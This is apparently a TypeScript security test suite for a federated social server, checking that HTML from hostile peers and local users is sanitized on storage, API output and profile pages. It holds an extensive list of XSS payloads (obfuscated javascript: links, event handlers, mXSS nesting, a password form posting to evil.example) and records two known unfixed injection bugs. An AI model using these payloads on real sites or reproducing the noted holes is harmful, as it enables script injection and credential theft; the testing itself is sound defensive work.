// Issue 7: HTML from other servers and from our own users, checked where
// clients read it (the Mastodon API's status `content`, `spoiler_text`,
// `url`, account `note` and `display_name`; the HTML profile page; the
// ActivityPub documents we serve) and where it is stored.
//
// Instead of looking for known-bad strings only, every HTML field is parsed
// and each tag and attribute must be on the allowlist of src/services/html.ts,
// every link http(s) or mailto. Covered elsewhere: the basic script,
// onclick, javascript:/data: and <img> cases (test/federation/
// inbox-fixtures.test.ts, hostile-input.test.ts).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually, startInstance, type TestInstance, type TestUser } from "../helpers/instances.ts";
import { AS_CONTEXT, startHostilePeer, type HostilePeer } from "./hostile-peer.ts";

const ALLOWED_TAGS = new Set([
  "p",
  "br",
  "a",
  "span",
  "strong",
  "b",
  "em",
  "i",
  "u",
  "s",
  "del",
  "blockquote",
  "code",
  "pre",
  "ul",
  "ol",
  "li",
  "h1",
  "h2",
  "h3",
  "h4",
  "hr",
]);
const ALLOWED_ATTRIBUTES: Record<string, string[]> = { a: ["href", "rel", "class", "title"], span: ["class"], ol: ["start", "reversed"], li: ["value"] };

/** Every tag allowed, every attribute allowed, every href http(s)/mailto, nothing executable left. */
function expectSafeHtml(html: string, where: string) {
  for (const match of html.matchAll(/<\/?([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const tag = match[1]!.toLowerCase();
    expect([where, tag, ALLOWED_TAGS.has(tag)]).toEqual([where, tag, true]);
    for (const attr of match[2]!.matchAll(/([^\s=/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      const name = attr[1]!.toLowerCase();
      expect([where, tag, name, (ALLOWED_ATTRIBUTES[tag] ?? []).includes(name)]).toEqual([where, tag, name, true]);
      if (name === "href") {
        const value = (attr[2] ?? "")
          .replace(/^["']|["']$/g, "")
          .replace(/&#x?[0-9a-f]+;?|&\w+;/gi, "")
          .trim();
        expect([where, value]).toEqual([where, expect.stringMatching(/^(https?:\/\/|mailto:)/i)]);
      }
    }
  }
  // Text is escaped: no raw `<` that is not one of the tags checked above.
  expect(html.replace(/<\/?[a-zA-Z][\w:-]*[^>]*>/g, "")).not.toMatch(/</);
}

/** Plain-text fields (display_name, spoiler_text) carry no markup at all. */
function expectNoMarkup(text: string, where: string) {
  expect([where, text]).toEqual([where, expect.not.stringMatching(/<\s*\/?\s*(script|img|iframe|svg|style|a|math|object|embed)\b/i)]);
}

const HOSTILE_CONTENT = [
  "<p>Visible start.</p>",
  '<script>alert("script")</script>',
  '<p><img src=x onerror="alert(1)">image</p>',
  '<p><a href="javascript:alert(1)">js</a> <a href="JaVaScRiPt:alert(2)">mixed case</a> <a href="jav&#x61;script:alert(3)">entity</a>',
  ' <a href="java\tscript:alert(4)">tab</a> <a href=" javascript:alert(5)">space</a> <a href="vbscript:msgbox(6)">vb</a>',
  ' <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">data</a> <a href="//evil.example/x">protocol-relative</a>',
  ' <a href="https://ok.example/" onclick="alert(8)" onmouseover="alert(9)" style="position:fixed;top:0" target="_blank" class="mention evil">fine link</a></p>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<style>body { display: none }</style><p style="color:red">styled</p>',
  '<svg><script>alert(10)</script><circle onload="alert(11)"/></svg><svg onload="alert(12)"></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(14)>">noscript</p></noscript>',
  '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  "<template><img src=x onerror=alert(15)></template><!-- <img src=x onerror=alert(16)> -->",
  "<p>Visible end.</p>",
].join("");

let a: TestInstance;
let peer: HostilePeer;
let olga: TestUser;
let gardenUri: string;
let mallory: { uri: string; keyId: string };

async function deliverNote(id: string, object: Record<string, unknown>) {
  const res = await peer.post(
    `${a.origin}/users/garden/inbox`,
    {
      "@context": AS_CONTEXT,
      id: `${id}/activity`,
      type: "Create",
      actor: mallory.uri,
      to: ["https://www.w3.org/ns/activitystreams#Public"],
      cc: [gardenUri],
      object: { id, attributedTo: mallory.uri, to: ["https://www.w3.org/ns/activitystreams#Public"], cc: [gardenUri], ...object },
    },
    mallory.keyId,
  );
  expect(res.status).toBe(202);
  const row = await eventually(() => a.app.ctx.db.selectFrom("posts").selectAll().where("uri", "=", id).executeTakeFirst());
  return row!;
}

beforeAll(async () => {
  a = await startInstance();
  peer = await startHostilePeer();
  olga = await a.user("olga");
  const group = await a.api(olga.token, "POST", "/api/ecotone/v1/groups", { slug: "garden", visibility: "public", joinPolicy: "open" });
  gardenUri = group.body.actor.uri;
  mallory = await peer.addActor("mallory", {
    name: '<script>alert("name")</script><img src=x onerror=alert(1)>Mallory <b>the</b> Great',
    summary: HOSTILE_CONTENT,
    url: "javascript:alert('profile')",
  });
  await peer.post(
    `${a.origin}/users/garden/inbox`,
    { "@context": AS_CONTEXT, id: `${peer.origin}/f/1`, type: "Follow", actor: mallory.uri, object: gardenUri },
    mallory.keyId,
  );
  await eventually(async () => {
    const members = await a.api(olga.token, "GET", "/api/ecotone/v1/groups/garden/members");
    return members.body.items.some((m: { actor: { uri: string } }) => m.actor.uri === mallory.uri);
  });
});

afterAll(async () => {
  await Promise.all([a?.close(), peer?.close()]);
});

describe("HTML from another server", () => {
  it("stores and serves a note's content, content warning and title sanitized", async () => {
    const row = await deliverNote(`${peer.origin}/pages/hostile`, {
      type: "Page",
      name: '<img src=x onerror=alert("title")>Seed <script>alert(1)</script>swap',
      summary: '<script>alert("cw")</script><b>spoilers</b>',
      content: HOSTILE_CONTENT,
    });
    expectSafeHtml(row.content_html, "stored content");
    expect(row.content_html).toContain("Visible start.");
    expect(row.content_html).toContain("Visible end.");
    expect(row.content_html).toContain('<a href="https://ok.example/"');
    expect(row.title).toBe("Seed swap");
    expect(row.summary).toBe("spoilers");

    const status = await a.api(olga.token, "GET", `/api/v1/statuses/${row.id}`);
    expect(status.status).toBe(200);
    expectSafeHtml(status.body.content, "status content");
    expect(status.body.content).toContain("Seed swap");
    expectNoMarkup(status.body.spoiler_text, "spoiler_text");
    const post = await a.api(olga.token, "GET", `/api/ecotone/v1/posts/${row.id}`);
    expectSafeHtml(post.body.contentHtml, "ecotone contentHtml");
  });

  it("serves a remote account's name as plain text, its bio sanitized and its profile link only if http(s)", async () => {
    const found = await a.api(olga.token, "GET", `/api/v2/search?resolve=true&type=accounts&q=${encodeURIComponent(mallory.uri)}`);
    const account = found.body.accounts[0];
    expect(account.display_name).toBe("Mallory the Great");
    expectNoMarkup(account.display_name, "display_name");
    expectSafeHtml(account.note, "note");
    expect(account.note).toContain("Visible start.");
    expect(account.url).toMatch(/^https?:\/\//);
    const row = await a.app.ctx.db.selectFrom("actors").select(["name", "summary", "url"]).where("uri", "=", mallory.uri).executeTakeFirstOrThrow();
    expectSafeHtml(row.summary ?? "", "stored summary");
    expect(row.url).toBeNull();
  });

  // KNOWN BUG (docs/security.md, open findings): a note's `url` is stored and
  // served as given. `it.fails` keeps the suite green while the bug is there
  // and turns red once it is fixed: drop `.fails` then.
  it("serves a note's link (status url) only if it is http(s)", async () => {
    const row = await deliverNote(`${peer.origin}/notes/js-url`, { type: "Note", content: "<p>click the date</p>", url: "javascript:alert(document.domain)" });
    const status = await a.api(olga.token, "GET", `/api/v1/statuses/${row.id}`);
    expect(status.body.url).toMatch(/^https?:\/\//);
  });
});

describe("HTML from our own users", () => {
  const text = '<script>alert(1)</script> <img src=x onerror=alert(2)> <a href="javascript:alert(3)">x</a> javascript:alert(4) https://ok.example/path';

  it("renders a status written as text, escaping any markup in it", async () => {
    const res = await a.api(olga.token, "POST", "/api/v1/statuses", { status: text });
    expect(res.status).toBe(200);
    expectSafeHtml(res.body.content, "own status");
    expect(res.body.content).toContain("&lt;script&gt;");
    expect(res.body.content).toContain('<a href="https://ok.example/path"');
    const row = await a.app.ctx.db.selectFrom("posts").select("content_html").where("id", "=", res.body.id).executeTakeFirstOrThrow();
    expectSafeHtml(row.content_html, "own stored status");
  });

  it("escapes a display name and bio on the API and on the profile page", async () => {
    const res = await a.api(olga.token, "PATCH", "/api/v1/accounts/update_credentials", { display_name: "<script>alert(1)</script>Olga", note: text });
    expect(res.status).toBe(200);
    expectSafeHtml(res.body.note, "own note");
    expect(res.body.note).toMatch(/&(lt|#60);img src=x onerror=alert\(2\)&(gt|#62);/);
    const page = await fetch(`${a.origin}/users/olga`, { headers: { accept: "text/html" } });
    expect(page.headers.get("content-type")).toMatch(/text\/html/);
    const html = await page.text();
    expect(html).not.toMatch(/<script|<img/i);
    expect(html).toMatch(/&(lt|#60);script&(gt|#62);alert\(1\)&(lt|#60);\/script&(gt|#62);Olga/);
  });

  // KNOWN BUG (docs/security.md, open findings): a local bio is plain text
  // but goes out as the actor's `summary`, which other servers read as HTML.
  it("sends a local bio to other servers as escaped HTML", async () => {
    await a.api(olga.token, "PATCH", "/api/v1/accounts/update_credentials", { note: text });
    const res = await fetch(`${a.origin}/users/olga`, { headers: { accept: "application/activity+json" } });
    const actor = (await res.json()) as { summary?: string };
    expectSafeHtml(actor.summary ?? "", "actor summary served to peers");
  });
});
